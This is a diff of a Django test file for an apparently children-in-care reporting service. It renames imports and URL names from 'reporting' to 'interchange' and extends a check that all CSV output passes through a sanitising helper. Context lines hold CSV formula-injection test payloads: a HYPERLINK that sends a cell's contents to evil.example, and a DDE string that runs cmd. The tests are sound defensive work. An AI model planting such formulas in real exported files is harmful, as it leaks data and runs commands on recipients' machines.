@@ -17,13 +17,13 @@ from django.urls import reverse
 from django.utils import timezone
 
 from disputes.models import EscalationStage
+from interchange import services as ssda903_services
 from iro_service.csv import FORMULA_STARTS, csv_writer, safe_cell
 from iro_service.periods import ReportingYear
 from reporting.models import ReportVersion, SSDA903Upload
-from reporting.ssda903 import services as ssda903_services
 from tests.disputes.factories import raise_dispute
 from tests.factories import make_child_in_care
-from tests.reporting.ssda903.helpers import hand_made_texts
+from tests.interchange.helpers import hand_made_texts
 
 HYPERLINK = '=HYPERLINK("https://evil.example/?"&A1,"Open")'
 SUM = "@SUM(1+1)*cmd|' /C calc'!A0"
@@ -73,7 +73,7 @@ def test_the_writer_passes_every_cell_through_safe_cell():
 
 def test_no_module_writes_csv_except_through_iro_service_csv():
     """The class, not the instance: a new CSV written with ``csv.writer`` fails here."""
-    packages = ("iro_service", "children", "reviews", "disputes", "reporting")
+    packages = ("iro_service", "children", "reviews", "disputes", "reporting", "interchange")
     writers = re.compile(r"\bcsv\.(writer|DictWriter)\(")
     found = sorted(
         str(p.relative_to(ROOT))
@@ -118,7 +118,7 @@ def test_the_ssda903_check_report_neutralises_file_names_references_and_keys(cli
     ssda903_services.ssda903_upload_check(upload_id=upload.pk)  # the check a task runs
     upload.refresh_from_db()
 
-    response = client_for(manager).get(reverse("reporting:ssda903_upload_report", args=[upload.pk]))
+    response = client_for(manager).get(reverse("interchange:ssda903_upload_report", args=[upload.pk]))
 
     text = response.content.decode()
     assert response.status_code == 200
@@ -131,7 +131,7 @@ def test_the_ssda903_check_report_neutralises_file_names_references_and_keys(cli
 def test_the_ssda903_return_writes_a_formula_reference_as_text(client_for, manager, formula_child, today):
     year = ReportingYear.containing(today)
 
-    response = client_for(manager).get(reverse("reporting:ssda903_export") + f"?year={year.label}")
+    response = client_for(manager).get(reverse("interchange:ssda903_export") + f"?year={year.label}")
 
     with zipfile.ZipFile(io.BytesIO(response.content)) as archive:
         texts = {name: archive.read(name).decode() for name in archive.namelist()}
